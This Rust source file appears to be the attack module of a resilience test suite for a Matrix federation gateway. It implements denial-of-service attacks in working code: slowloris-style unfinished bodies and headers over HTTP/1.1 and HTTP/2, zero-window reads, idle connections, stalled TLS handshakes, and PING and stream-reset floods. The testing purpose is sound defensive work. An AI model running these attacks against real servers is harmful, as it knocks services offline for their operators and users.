//! The attacks, by the resource that they use up.

use std::{io, net::SocketAddr, time::Duration};

use futures_util::future::BoxFuture;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    sync::mpsc,
    task::JoinSet,
    time,
};

use super::MISSING;
use crate::support::{
    US,
    client::Ask,
    frames::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, PING, RST_STREAM, Raw, WINDOW_UPDATE,
        connect_from, frame, head,
    },
    history::FakeHistory,
    peer::Peer,
    program::{MANY, one_of_many},
    tls::hello,
};

/// How long an attacker holds its connections before it starts again.
pub(super) const AGAIN: Duration = Duration::from_secs(2);

/// An attack, which goes on until this is dropped.
pub(super) type Attack = JoinSet<()>;

/// Begins an attack on the gateway at this address.
pub(super) type Begin = fn(SocketAddr) -> BoxFuture<'static, Attack>;

/// Opens `each` connections from each of some addresses, and acts on each connection; then repeats that
/// on new ones. Returns when all have begun.
pub(super) async fn from_each<F, G>(addresses: u8, each: usize, to: SocketAddr, act: F) -> Attack
where
    F: Fn(u8, SocketAddr) -> G + Copy + Send + 'static,
    G: Future<Output = io::Result<TcpStream>> + Send + 'static,
{
    repeat(addresses, each, AGAIN, to, act).await
}

/// The same as fast as possible: connections are not held.
async fn flood<F, G>(addresses: u8, each: usize, to: SocketAddr, act: F) -> Attack
where
    F: Fn(u8, SocketAddr) -> G + Copy + Send + 'static,
    G: Future<Output = io::Result<TcpStream>> + Send + 'static,
{
    repeat(addresses, each, Duration::ZERO, to, act).await
}

async fn repeat<F, G>(addresses: u8, each: usize, hold: Duration, to: SocketAddr, act: F) -> Attack
where
    F: Fn(u8, SocketAddr) -> G + Copy + Send + 'static,
    G: Future<Output = io::Result<TcpStream>> + Send + 'static,
{
    let mut attack = JoinSet::new();
    let (begun, mut all_begun) = mpsc::channel::<()>(1);
    for nth in 0..addresses {
        for _ in 0..each {
            let mut begun = Some(begun.clone());
            attack.spawn(async move {
                loop {
                    let held = act(nth, to).await;
                    drop(begun.take());
                    time::sleep(hold).await;
                    drop(held);
                }
            });
        }
    }
    drop(begun);
    // Completes when all senders are dropped.
    all_begun.recv().await;
    attack
}

fn unsigned(peer: &str) -> String {
    format!(
        r#"X-Matrix origin="{peer}",destination="{US}",key="ed25519:k1",sig="{}""#,
        "A".repeat(86)
    )
}

/// Sends the beginning of an unauthenticated request over HTTP/1.1.
async fn post(nth: u8, to: SocketAddr, headers: &str, body: Vec<u8>) -> io::Result<TcpStream> {
    let mut stream = connect_from(nth, to).await?;
    let head = format!(
        "POST {MISSING} HTTP/1.1\r\nHost: {US}\r\nAuthorization: {}\r\n{headers}\r\n",
        unsigned("a.example")
    );
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(&body).await?;
    Ok(stream)
}

/// Opens a hundred HTTP/2 streams with unfinished bodies of this many bytes, as far as windows allow.
async fn unfinished(nth: u8, to: SocketAddr, body: usize) -> io::Result<TcpStream> {
    let mut raw = Raw::connect(nth, to, &[]).await?;
    let head = head("POST", MISSING, &unsigned("a.example"));
    for _ in 0..100 {
        let stream = raw.ask(END_HEADERS, &head).await?;
        for part in vec![b'1'; body].chunks(16_384) {
            // Received bytes must be read, or the gateway could not write.
            let mut ignored = [0; 4_096];
            while raw.stream.try_read(&mut ignored).is_ok_and(|read| read > 0) {}
            raw.send(&frame(DATA, 0, stream, part)).await?;
        }
    }
    Ok(raw.stream)
}

pub(super) const UNFINISHED: &[(&str, Begin)] = &[
    ("bodies without an end, HTTP/2", |to| {
        Box::pin(from_each(3, 6, to, |nth, to| unfinished(nth, to, 1)))
    }),
    ("bodies without an end, HTTP/2, many addresses", |to| {
        Box::pin(from_each(40, 2, to, |nth, to| unfinished(nth, to, 1)))
    }),
    ("as much as the windows take, HTTP/2", |to| {
        Box::pin(from_each(3, 6, to, |nth, to| unfinished(nth, to, 10_000)))
    }),
    ("bodies that lack their last byte, HTTP/1.1", |to| {
        Box::pin(from_each(8, 60, to, |nth, to| {
            post(nth, to, "Content-Length: 262144\r\n", vec![b' '; 262_143])
        }))
    }),
    ("bodies that lack their last byte and become large when parsed", |to| {
        Box::pin(from_each(8, 60, to, |nth, to| {
            let body = [&b"[0"[..], &b",0".repeat(131_070), b"]"].concat();
            post(nth, to, "Content-Length: 262143\r\n", body)
        }))
    }),
    ("chunks without an end", |to| {
        Box::pin(from_each(4, 150, to, |nth, to| {
            post(nth, to, "Transfer-Encoding: chunked\r\n", b"1\r\n{\r\n".repeat(9))
        }))
    }),
    ("lengths that are never sent, HTTP/1.1", |to| {
        Box::pin(from_each(4, 150, to, |nth, to| {
            post(nth, to, "Content-Length: 5\r\n", Vec::new())
        }))
    }),
    ("bodies that are refused for their length", |to| {
        Box::pin(from_each(4, 100, to, |nth, to| {
            post(nth, to, "Content-Length: 16777216\r\n", vec![b' '; 1_000_000])
        }))
    }),
    ("heads without an end, HTTP/1.1", |to| {
        Box::pin(from_each(4, 150, to, |nth, to| async move {
            let mut stream = connect_from(nth, to).await?;
            let fields = format!("A: {}\r\n", "a".repeat(1_500)).repeat(40);
            stream.write_all(format!("GET / HTTP/1.1\r\n{fields}").as_bytes()).await?;
            Ok(stream)
        }))
    }),
    ("heads without an end, HTTP/2", |to| {
        Box::pin(from_each(4, 150, to, |nth, to| async move {
            let mut raw = Raw::connect(nth, to, &[]).await?;
            let head = head("GET", "/", &"a".repeat(60_000));
            let mut parts = head.chunks(15_000);
            raw.ask(0, parts.next().unwrap()).await?;
            for part in parts {
                raw.send(&frame(CONTINUATION, 0, 1, part)).await?;
            }
            Ok(raw.stream)
        }))
    }),
];

/// Sends requests of an authenticated server, and does not read the answers.
async fn greedy(nth: u8, to: SocketAddr, settings: &[u8]) -> io::Result<TcpStream> {
    greedy_as(&Peer::new("other.example", 2), nth, to, settings).await
}

async fn greedy_as(peer: &Peer, nth: u8, to: SocketAddr, settings: &[u8]) -> io::Result<TcpStream> {
    let mut raw = Raw::connect(nth, to, settings).await?;
    for question in 0..100 {
        let path =
            format!("/_matrix/federation/v1/backfill/!r:us.example?v=$a{nth}_{question}&limit=100");
        let header = peer.header(&peer.sig("GET", &path, None));
        raw.ask(END_HEADERS | END_STREAM, &head("GET", &path, &header)).await?;
    }
    Ok(raw.stream)
}

/// Makes answers of the largest usual size: 2 MiB.
pub(super) fn large_pages(history: &FakeHistory) {
    history.respond(|| Ok(vec![vec![b'1'; 60_000]; 35]));
}

pub(super) const UNTAKEN: &[(&str, Begin)] = &[
    ("a window of nothing", |to| {
        Box::pin(from_each(1, 2, to, |nth, to| greedy(nth, to, &[0, 4, 0, 0, 0, 0])))
    }),
    ("a window of one byte", |to| {
        Box::pin(from_each(1, 4, to, |nth, to| greedy(nth, to, &[0, 4, 0, 0, 0, 1])))
    }),
    ("the widest window, and nothing is read", |to| {
        Box::pin(from_each(1, 4, to, |nth, to| async move {
            let mut stream = greedy(nth, to, &[0, 4, 0x7f, 0xff, 0xff, 0xff]).await?;
            stream.write_all(&frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0, 0, 0])).await?;
            Ok(stream)
        }))
    }),
    ("HTTP/1.1, and nothing is read", |to| {
        Box::pin(from_each(4, 50, to, |nth, to| async move {
            let path = format!("/_matrix/federation/v1/backfill/!r:us.example?v=$b{nth}&limit=100");
            let ask = Ask::new("GET", &path).signed_by(&Peer::new("other.example", 2));
            let mut stream = connect_from(nth, to).await?;
            stream.write_all(&ask.bytes()).await?;
            Ok(stream)
        }))
    }),
    ("refusals that strangers do not take", |to| {
        Box::pin(from_each(4, 60, to, |nth, to| async move {
            let mut raw = Raw::connect(nth, to, &[0, 4, 0, 0, 0, 0]).await?;
            let head = head("GET", "/", &"a".repeat(5_000));
            for _ in 0..100 {
                raw.ask(END_HEADERS | END_STREAM, &head).await?;
            }
            Ok(raw.stream)
        }))
    }),
];

/// Many authenticated servers, each of which uses all of its own limits.
pub(super) const TOGETHER: Begin = |to| {
    Box::pin(from_each(MANY, 1, to, |nth, to| async move {
        greedy_as(&one_of_many(nth), nth, to, &[0, 4, 0, 0, 0, 0]).await
    }))
};

pub(super) const IDLE: &[(&str, Begin)] = &[
    ("silent", |to| Box::pin(from_each(8, 40, to, connect_from))),
    ("silent HTTP/2", |to| {
        Box::pin(from_each(8, 40, to, |nth, to| async move {
            Ok(Raw::connect(nth, to, &[]).await?.stream)
        }))
    }),
    ("that have asked once", |to| {
        Box::pin(from_each(8, 40, to, |nth, to| async move {
            let mut stream = connect_from(nth, to).await?;
            stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n").await?;
            drop(stream.read(&mut [0; 1]).await);
            Ok(stream)
        }))
    }),
    ("that wait for the rest of a request", |to| {
        Box::pin(from_each(8, 40, to, |nth, to| {
            post(nth, to, "Content-Length: 5\r\n", b"{".to_vec())
        }))
    }),
    ("that do not take a refusal", |to| {
        Box::pin(from_each(8, 40, to, |nth, to| async move {
            let mut raw = Raw::connect(nth, to, &[0, 4, 0, 0, 0, 0]).await?;
            raw.ask(END_HEADERS | END_STREAM, &head("GET", "/", "")).await?;
            Ok(raw.stream)
        }))
    }),
    ("one each of many addresses", |to| Box::pin(from_each(200, 1, to, connect_from))),
];

pub(super) const HANDSHAKES: &[(&str, Begin)] = &[
    ("handshakes that do not begin", |to| Box::pin(from_each(4, 150, to, connect_from))),
    ("handshakes that do not go on", |to| {
        Box::pin(from_each(4, 150, to, |nth, to| async move {
            let mut stream = connect_from(nth, to).await?;
            stream.write_all(&hello()).await?;
            Ok(stream)
        }))
    }),
    ("half a hello", |to| {
        Box::pin(from_each(4, 150, to, |nth, to| async move {
            let mut stream = connect_from(nth, to).await?;
            stream.write_all(&hello()[..99]).await?;
            Ok(stream)
        }))
    }),
    ("handshakes one after the other", |to| {
        Box::pin(flood(4, 20, to, |nth, to| async move {
            let mut stream = connect_from(nth, to).await?;
            stream.write_all(&hello()).await?;
            // Until the gateway has sent its part of the handshake.
            drop(time::timeout(AGAIN, stream.read(&mut [0; 1])).await);
            Ok(stream)
        }))
    }),
];

pub(super) const FLOODS: &[(&str, Begin)] = &[
    ("pings on one connection after the other", |to| {
        Box::pin(flood(4, 4, to, |nth, to| async move {
            let mut raw = Raw::connect(nth, to, &[]).await?;
            raw.send(&frame(PING, 0, 0, &[7; 8]).repeat(5_000)).await?;
            Ok(raw.stream)
        }))
    }),
    ("streams that are reset, on one connection after the other", |to| {
        Box::pin(flood(4, 4, to, |nth, to| async move {
            let mut raw = Raw::connect(nth, to, &[]).await?;
            for _ in 0..1_000 {
                let stream = raw.ask(END_HEADERS | END_STREAM, &head("GET", "/", "")).await?;
                raw.send(&frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])).await?;
            }
            Ok(raw.stream)
        }))
    }),
    ("signatures that do not fit", |to| {
        Box::pin(flood(4, 4, to, |nth, to| async move {
            let authorization = unsigned("other.example").replace("k1", "k2");
            let path = "/_matrix/federation/v1/backfill/!r:us.example?v=$a&limit=1";
            let ask = Ask::new("GET", path).authorization(authorization);
            let mut stream = connect_from(nth, to).await?;
            stream.write_all(&ask.bytes()).await?;
            stream.read_to_end(&mut Vec::new()).await?;
            Ok(stream)
        }))
    }),
];
